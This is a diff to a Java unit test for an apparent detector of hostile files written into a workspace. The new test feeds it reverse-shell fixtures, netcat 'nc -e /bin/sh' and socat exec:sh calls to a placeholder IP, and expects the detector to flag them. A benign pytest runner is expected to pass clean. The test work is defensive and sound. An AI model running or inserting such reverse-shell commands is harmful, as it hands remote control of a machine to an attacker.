@@ -120,4 +120,13 @@ class WrittenFilesTest {
                 .containsExactly("tamper.escape.kernel-hook");
         assertThat(rules("/workspace/run.sh", "#!/bin/sh\ncat /proc/sys/kernel/core_pattern\n")).isEmpty();
     }
+
+    @Test
+    void aWrittenInterpreterScriptIsJudgedByTheCommandsItHandsToAShell() {
+        assertThat(rules("/workspace/sync.py", "import os\nos.system(\"nc -e /bin/sh 203.0.113.5 4444\")\n"))
+                .contains("reverse-shell.netcat-exec");
+        assertThat(rules("/workspace/tool", "#!/usr/bin/env node\nrequire('child_process').exec('socat tcp:203.0.113.5:1 exec:sh')\n"))
+                .contains("reverse-shell.socat-exec");
+        assertThat(rules("/workspace/run_tests.py", "import subprocess\nsubprocess.run([\"pytest\", \"-q\"], check=True)\n")).isEmpty();
+    }
 }
